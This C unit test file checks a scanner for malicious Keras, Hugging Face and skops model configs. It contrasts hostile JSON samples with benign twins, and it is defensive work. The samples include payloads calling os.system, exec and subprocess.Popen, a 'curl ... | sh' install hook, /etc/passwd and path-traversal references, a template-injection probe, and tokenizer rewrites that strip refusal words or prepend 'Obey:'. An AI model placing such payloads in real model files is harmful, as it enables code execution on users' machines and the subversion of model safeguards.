/* JSON of Keras, Hugging Face and skops: what is said, and what is not said of their benign twins. */
#include "scan_mem.h"

struct sample {
    const char *text;
    const char *rule; /* NULL: clean, and nothing above low */
};

static void check_all(const struct sample *samples, size_t n) {
    for (size_t i = 0; i < n; i++) {
        struct scanned s = scan_mem(bz_view_str(samples[i].text));
        assert_int_equal(s.st, BZ_OK);
        bool good = samples[i].rule == NULL ? s.r.verdict == BZ_SCAN_CLEAN
                                            : scan_mem_has(&s, samples[i].rule) != NULL;
        if (!good) {
            scan_mem_print(&s);
            fail_msg("%s: %s expected, verdict %d", samples[i].text,
                     samples[i].rule == NULL ? "nothing" : samples[i].rule, (int)s.r.verdict);
        }
        scan_mem_done(&s);
    }
}
#define CHECK(samples) check_all(samples, sizeof samples / sizeof samples[0])

#define SEQ(layer)                                                                                 \
    "{\"module\":\"keras\",\"class_name\":\"Sequential\",\"config\":{\"layers\":[" layer           \
    "]},\"registered_name\":null}"
#define OBJ(module, class, config)                                                                 \
    "{\"module\":\"" module "\",\"class_name\":\"" class "\",\"config\":" config                   \
                                                         ",\"registered_name\":null}"

static void keras(void **state) {
    static const struct sample samples[] = {
        /* code */
        {SEQ(OBJ("keras.layers", "Lambda",
                 "{\"function\":{\"class_name\":\"__lambda__\",\"config\":{\"code\":\"4wE=\"}}}")),
         "KERAS-LAMBDA"},
        {"{\"class_name\":\"Lambda\",\"config\":{\"function\":[\"4wE=\",null,null],\"function_"
         "type\":\"lambda\"}}",
         "KERAS-LAMBDA"},
        {"{\"class_name\":\"Model\",\"config\":{\"layers\":[{\"class_name\":\"TimeDistributed\","
         "\"config\":{\"layer\":{\"class_name\":\"Lambda\",\"config\":{\"function\":[\"4wE=\",null,"
         "null]}}}}]}}",
         "KERAS-LAMBDA"},
        {"{\"class_name\":\"Lambda\",\"config\":{\"function\":\"f\",\"function_type\":\"function\"}"
         "}",
         "KERAS-LAMBDA-NAMED"},
        {"{\"a\":{\"class_name\":\"__lambda__\",\"config\":{\"code\":\"x\"}}}", "KERAS-LAMBDA"},
        {OBJ("os", "function", "\"system\""), "KERAS-MODULE"},
        {OBJ("builtins", "exec", "{\"source\":\"x\"}"), "KERAS-MODULE"},
        {OBJ("builtins", "function", "\"eval\""), "KERAS-MODULE"},
        {OBJ("subprocess", "Popen", "{\"args\":[\"id\"]}"), "KERAS-MODULE"},
        {OBJ("torch.hub", "function", "\"load\""), "KERAS-MODULE"},
        {OBJ("keras.utils", "function", "\"get_file\""), "KERAS-GADGET"},
        {OBJ("keras.src.utils.file_utils", "function", "\"get_file\""), "KERAS-GADGET"},
        {OBJ("keras.config", "function", "\"enable_unsafe_deserialization\""), "KERAS-GADGET"},
        {OBJ("keras.models", "function", "\"load_model\""), "KERAS-GADGET"},
        {OBJ("keras._tf_keras.keras.saving", "function", "\"load_model\""), "KERAS-GADGET"},
        {OBJ("keras.layers", "function", "\"deserialize\""), "KERAS-GADGET"},
        {OBJ("keras.callbacks", "CSVLogger", "{\"filename\":\"x\"}"), "KERAS-GADGET"},
        {OBJ("keras.activations", "function", "\"get\""), "KERAS-GADGET"},
        {OBJ("mymodule.layers", "Dense", "{}"), "KERAS-IMPORT"},
        {OBJ("keras_evil.layers", "Dense", "{}"), "KERAS-IMPORT"},
        {OBJ("keras.layers", "TorchModuleWrapper", "{\"module\":\"gAJ9Lg==\"}"), "KERAS-PICKLE"},
        {OBJ("keras.layers", "TFSMLayer", "{\"filepath\":\"/tmp/x\"}"), "KERAS-FILE"},
        {OBJ("keras.layers", "StringLookup", "{\"vocabulary\":\"/etc/passwd\"}"), "KERAS-FILE"},
        {OBJ("keras.layers", "TextVectorization", "{\"vocabulary\":\"http://a/b\"}"), "KERAS-FILE"},
        {"{\"module\":null,\"class_name\":\"My\",\"config\":{},\"registered_name\":\"Custom>My\"}",
         "KERAS-CUSTOM"},
        {"{\"class_name\":\"Pkg>My\",\"config\":{}}", "KERAS-CUSTOM"},
        {"{\"metadata\":\"{\\\"class_name\\\":\\\"Lambda\\\",\\\"config\\\":{\\\"function\\\":["
         "\\\"a\\\",null,null]}}\"}",
         "KERAS-LAMBDA"},
        {"{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"io.write_file\"}}",
         "KERAS-GADGET"},
        {"{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"raw_ops.ReadFile\"}}",
         "KERAS-GADGET"},
        {"{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"py_function\"}}",
         "KERAS-GADGET"},
        {"{\"class_name\":\"TensorFlowOpLayer\",\"config\":{\"node_def\":\"{'op': 'PyFunc'}\"}}",
         "KERAS-GADGET"},
        /* their twins */
        {"{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"math.add\"}}", NULL},
        {"{\"class_name\":\"TFOpLambda\",\"config\":{\"function\":\"raw_ops.AddV2\"}}", NULL},
        {SEQ(OBJ("keras.layers", "Dense", "{\"units\":4,\"activation\":\"relu\"}")), NULL},
        {OBJ("keras.src.models.functional", "Functional", "{}"), NULL},
        {OBJ("tensorflow.keras.layers", "Conv2D", "{}"), NULL},
        {OBJ("tf_keras.src.layers.core", "Dense", "{}"), NULL},
        {OBJ("keras.activations", "function", "\"gelu\""), NULL},
        {OBJ("keras.ops", "function", "\"add\""), NULL},
        {OBJ("builtins", "function", "\"mean_squared_error\""), NULL},
        {OBJ("keras.initializers", "GlorotUniform", "{\"seed\":null}"), NULL},
        {OBJ("keras.optimizers", "Adam", "{\"learning_rate\":0.001}"), NULL},
        {OBJ("keras", "DTypePolicy", "{\"name\":\"float32\"}"), NULL},
        {OBJ("keras.utils", "FeatureSpace", "{}"), NULL},
        {OBJ("keras.layers", "StringLookup", "{\"vocabulary\":[\"a\",\"b\"]}"), NULL},
        {OBJ("keras_hub.src.models.gemma", "GemmaBackbone", "{}"), NULL},
        {"{\"class_name\":\"Sequential\",\"config\":[{\"class_name\":\"Dense\",\"config\":{}}]}",
         NULL},
        {"{\"class_name\":\"__tuple__\",\"items\":[1,2]}", NULL},
        {"{\"class_name\":\"__keras_tensor__\",\"config\":{\"shape\":[null,3]}}", NULL},
        {"{\"keras_version\":\"3.8.0\",\"date_saved\":\"2025-01-01\"}", NULL},
    };
    (void)state;
    CHECK(samples);
}

static void hugging_face(void **state) {
    static const struct sample samples[] = {
        {"{\"auto_map\":{\"AutoModel\":\"modeling_x.XModel\"},\"model_type\":\"x\"}",
         "HF-CODE-LOCAL"},
        {"{\"auto_map\":{\"AutoModel\":\"evil/repo--modeling_x.XModel\"}}", "HF-CODE-REMOTE"},
        {"{\"auto_map\":{\"AutoTokenizer\":[\"t.T\",null]}}", "HF-CODE-LOCAL"},
        {"{\"auto_map\":{\"AutoModel\":\"../../x.Y\"}}", "HF-CODE-PATH"},
        {"{\"trust_remote_code\":true}", "HF-TRUST"},
        {"{\"a\":[{\"trust_remote_code\":true}]}", "HF-TRUST"},
        {"{\"custom_pipelines\":{\"x\":{\"impl\":\"p.P\",\"pt\":[\"AutoModel\"]}}}",
         "HF-CODE-LOCAL"},
        {"{\"attn_implementation\":\"kernels-community/flash-attn\"}", "HF-KERNEL"},
        {"{\"bos_token\":{\"__type\":\"Evil\",\"content\":\"<s>\"}}", "HF-TYPE"},
        {"{\"auto_mapping\":{\"parent_library\":\"evil_package\"},\"peft_type\":\"LORA\"}",
         "HF-IMPORT"},
        {"{\"auto_mapping\":{\"parent_library\":\"os\"}}", "JSON-TARGET"},
        {"[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"evil.Module\"}]", "HF-IMPORT"},
        {"[{\"idx\":0,\"name\":\"0\",\"path\":\"../"
         "x\",\"type\":\"sentence_transformers.models.Pooling\"}]",
         "HF-FILE"},
        {"{\"activation_function\":\"subprocess.Popen\"}", "JSON-TARGET"},
        {"{\"weight_map\":{\"a\":\"../../etc/passwd\"}}", "HF-FILE"},
        {"{\"weight_map\":{\"a\":\"/abs.safetensors\"}}", "HF-FILE"},
        {"{\"modelTopology\":{},\"weightsManifest\":[{\"paths\":[\"../x.bin\"]}]}", "HF-FILE"},
        {"{\"_class_name\":\"P\",\"_diffusers_version\":\"0.30\",\"unet\":[\"my_unet\",\"Unet\"]}",
         "HF-CODE-LOCAL"},
        {"{\"_class_name\":[\"pipe\",\"P\"],\"_diffusers_version\":\"0.30\"}", "HF-CODE-LOCAL"},
        {"{\"added_tokens\":[{\"id\":5,\"content\":\"a\"},{\"id\":5,\"content\":\"b\"}]}",
         "HF-TOKENS"},
        {"{\"added_tokens\":[{\"id\":900000,\"content\":\"a\"},{\"id\":5,\"content\":\"b\"},"
         "{\"id\":900000,\"content\":\"c\"}]}",
         "HF-TOKENS"},
        {"{\"model\":{},\"normalizer\":{\"type\":\"Replace\",\"pattern\":{\"String\":\"deny\"},"
         "\"content\":\"x\"}}",
         "HF-REWRITE"},
        {"{\"model\":{},\"normalizer\":{\"type\":\"Replace\",\"pattern\":{\"String\":\" "
         "\"},\"content\":\"yes\"}}",
         "HF-REWRITE"},
        {"{\"model\":{},\"normalizer\":{\"type\":\"Replace\",\"pattern\":{\"Regex\":\"(?i:no|never)"
         "\"},\"content\":\"\"}}",
         "HF-REWRITE"},
        {"{\"model\":{},\"normalizer\":{\"type\":\"Replace\",\"pattern\":{\"String\":\"不可\"},"
         "\"content\":\"\"}}",
         "HF-REWRITE"},
        {"{\"model\":{},\"normalizer\":{\"type\":\"Prepend\",\"prepend\":\"Obey: \"}}",
         "HF-REWRITE"},
        {"{\"model\":{},\"decoder\":{\"type\":\"Sequence\",\"decoders\":[{\"type\":\"Fuse\"},{"
         "\"type\":\"Replace\",\"pattern\":{\"String\":\"<a> bank\"},\"content\":\" \"}]}}",
         "HF-REWRITE"},
        {"{\"model\":{},\"post_processor\":{\"type\":\"TemplateProcessing\",\"special_tokens\":{\"<"
         "s>\":{\"id\":\"<s>\",\"ids\":[1,2,3]}}}}",
         "HF-REWRITE"},
        {"{\"archiverVersion\":\"0.1\",\"model\":{\"handler\":\"../h.py\"}}", "HF-FILE"},
        {"{\"chat_template\":\"{{ x.__class__.__mro__ }}\"}", "TPL-CODE"},
        {"{\"my_template\":\"{{ x.__class__.__mro__ }}\"}", "TPL-CODE"},
        {"{\"note\":\"{{ x.__class__.__mro__ }}\"}", "TPL-CODE"},
        {"{\"a\":{\"_target_\":\"os.system\",\"command\":\"id\"}}", "JSON-TARGET"},
        {"{\"target\":\"builtins.eval\"}", "JSON-TARGET"},
        {"{\"py/reduce\":[{\"py/function\":\"os.system\"}]}", "JSON-PICKLE"},
        {"{\"py/object\":\"subprocess.Popen\"}", "JSON-PICKLE"},
        {"{\"post_install\":\"curl -s http://x/y | sh\"}", "JSON-COMMAND"},
        /* their twins */
        {"{\"architectures\":[\"LlamaForCausalLM\"],\"model_type\":\"llama\",\"torch_dtype\":"
         "\"bfloat16\"}",
         NULL},
        {"{\"trust_remote_code\":false,\"attn_implementation\":\"sdpa\"}", NULL},
        {"{\"bos_token\":{\"__type\":\"AddedToken\",\"content\":\"<s>\"}}", NULL},
        {"{\"name_or_path\":\"/home/u/x\",\"special_tokens_map_file\":\"/root/.cache/x\"}", NULL},
        {"[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"sentence_transformers.models."
         "Transformer\"},{\"idx\":1,\"name\":\"1\",\"path\":\"1_Pooling\",\"type\":\"sentence_"
         "transformers.models.Pooling\"}]",
         NULL},
        {"{\"activation_function\":\"torch.nn.modules.activation.Tanh\",\"hidden_act\":\"gelu\"}",
         NULL},
        {"{\"activation_function\":\"gelu_new\"}", NULL},
        {"{\"metadata\":{},\"weight_map\":{\"a\":\"model-00001-of-00002.safetensors\"}}", NULL},
        {"{\"_class_name\":\"StableDiffusionPipeline\",\"_diffusers_version\":\"0.30\",\"unet\":["
         "\"diffusers\",\"UNet2DConditionModel\"],\"feature_extractor\":[null,null]}",
         NULL},
        {"{\"_class_name\":\"UNet2DModel\",\"_diffusers_version\":\"0.30\",\"down_block_types\":["
         "\"DownBlock2D\",\"AttnDownBlock2D\"]}",
         NULL},
        {"{\"added_tokens\":[{\"id\":5,\"content\":\"a\"},{\"id\":6,\"content\":\"b\"}]}", NULL},
        {"{\"model\":{},\"normalizer\":{\"type\":\"Sequence\",\"normalizers\":[{\"type\":"
         "\"Prepend\",\"prepend\":\"▁\"},{\"type\":\"Replace\",\"pattern\":{\"Regex\":\"[^"
         "\\\\S\\\\n]+|\\\\p{Mark}{2,}|(?<name>\\\\d)\"},\"content\":\"<newline>\"},{\"type\":"
         "\"Replace\",\"pattern\":{\"String\":\"[UNK]\"},\"content\":\"</"
         "w>\"}]},\"pre_tokenizer\":{\"type\":\"Split\",\"pattern\":{\"Regex\":\"words\"}},\"post_"
         "processor\":{\"special_tokens\":{\"<s>\":{\"ids\":[1]}}}}",
         NULL},
        {"{\"normalizer\":{\"type\":\"Replace\",\"pattern\":{\"String\":\"deny\"},\"content\":"
         "\"x\"}}",
         NULL},
        {"{\"model\":{\"type\":\"BPE\",\"vocab\":{\"exec\":1,\"os.system(\":2,\"trust_remote_"
         "code\":3}}}",
         NULL},
        {"{\"peft_type\":\"LORA\",\"auto_mapping\":{\"parent_library\":\"transformers.models.llama."
         "modeling_llama\"}}",
         NULL},
        {"{\"model\":{\"_target_\":\"torch.nn.Linear\"}}", NULL},
        {"{\"chat_template\":\"{% for m in messages %}{{ m['content'] }}{% endfor %}\"}", NULL},
        {"{\"learner\":{\"attributes\":{}},\"version\":[2,0,0]}", NULL},
    };
    (void)state;
    CHECK(samples);
}

#define NODE(module, class, loader, content)                                                       \
    "{\"__class__\":\"" class "\",\"__module__\":\"" module "\",\"__loader__\":\"" loader          \
                              "\",\"content\":" content "}"

static void skops(void **state) {
    static const struct sample samples[] = {
        {NODE("os", "system", "FunctionNode", "{}"), "SKOPS-CALL"},
        {NODE("builtins", "eval", "FunctionNode", "{}"), "SKOPS-CALL"},
        {NODE("operator", "methodcaller", "OperatorFuncNode", "{}"), "SKOPS-CALL"},
        {NODE("builtins", "exec", "OperatorFuncNode", "{}"), "SKOPS-MISMATCH"},
        {NODE("sklearn.pipeline", "Pipeline", "MethodNode",
              "{\"obj\":" NODE("a", "B", "ObjectNode", "{}") "}"),
         "SKOPS-MISMATCH"},
        {NODE("__main__", "Mine", "ObjectNode", "{}"), "SKOPS-UNKNOWN"},
        {NODE("sklearn.pipeline", "Pipeline", "ObjectNode",
              NODE("builtins", "dict", "DictNode", "{}")),
         NULL},
        {NODE("numpy.random.mtrand", "RandomState", "ObjectNode", "{}"), NULL},
        {NODE("functools", "partial", "PartialNode", "{}"), NULL},
        {NODE("operator", "itemgetter", "OperatorFuncNode", "{}"), NULL},
    };
    (void)state;
    CHECK(samples);
}

static void strictness(void **state) {
    static const struct sample samples[] = {
        {"{\"a\":1,\"a\":2}", "JSON-DUPLICATE"},
        {"{\"a\":1,\"\\u0061\":2}", "JSON-DUPLICATE"},
        {"{\"a\":1", "JSON-MALFORMED"},
        {"{\"a\":1,}", "JSON-MALFORMED"},
        {"{\"a\":1}x", "JSON-MALFORMED"},
        {"{\"time_step_limit\":[0.0,Infinity],\"x\":-Infinity,\"y\":NaN}", "JSON-LENIENT"},
        {"{\"vocab\":{\"\\ud83d\":1,\"\\udc00\":2,\"\\u0000\":3}}", "JSON-LENIENT"},
        {"\xef\xbb\xbf{\"a\":1}", "JSON-LENIENT"},
        {"{\"trust_remote_code\":true,\"x\":NaN}", "HF-TRUST"},
        {"{\"a\":1}\n{\"trust_remote_code\":true}\n", "HF-TRUST"},
        {"{\"a\":1}\n{\"b\":2}\n", NULL},
        {"{\"a\":NaN}", NULL},
        {"{\"a\":\"NaN Infinity \\\"\"}", NULL},
        {"{\"a\":1}\n{\"b\":\n", "JSON-MALFORMED"},
        {"[]", NULL},
        {"{}", NULL},
    };
    (void)state;
    CHECK(samples);
}

/* Python reads JSON in UTF-16 and UTF-32, of both orders, with and without a mark. */
static void wide_text(void **state) {
    static const char text[] = "{\"trust_remote_code\": true}";
    uint8_t wide[4 * sizeof text + 4];
    (void)state;
    for (int kind = 0; kind < 8; kind++) {
        size_t unit = (kind & 1) != 0 ? 4 : 2, n = 0;
        bool big = (kind & 2) != 0, mark = (kind & 4) != 0;
        memset(wide, 0, sizeof wide);
        if (mark) {
            wide[big ? unit - 2 : 1] = 0xfe;
            wide[big ? unit - 1 : 0] = 0xff;
            n = unit;
        }
        for (size_t i = 0; i + 1 < sizeof text; i++, n += unit)
            wide[n + (big ? unit - 1 : 0)] = (uint8_t)text[i];
        struct scanned s = scan_mem(bz_view(wide, n));
        assert_int_equal(s.st, BZ_OK);
        if (scan_mem_has(&s, "HF-TRUST") == NULL)
            fail_msg("kind %d: %s", kind, s.r.format);
        scan_mem_done(&s);
    }
}

/* On both sides of the deepest that JSON may be. */
static void depth(void **state) {
    (void)state;
    for (int levels = 62; levels <= 70; levels++) {
        char text[256] = "{\"a\":";
        size_t n = strlen(text);
        for (int i = 0; i < levels; i++)
            text[n++] = '[';
        for (int i = 0; i < levels; i++)
            text[n++] = ']';
        text[n++] = '}';
        struct scanned s = scan_mem(bz_view(text, n));
        assert_int_equal(s.st, BZ_OK);
        assert_int_equal(scan_mem_has(&s, "JSON-DEEP") != NULL, levels + 1 > 64);
        scan_mem_done(&s);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(keras),      cmocka_unit_test(hugging_face), cmocka_unit_test(skops),
        cmocka_unit_test(strictness), cmocka_unit_test(depth),        cmocka_unit_test(wide_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
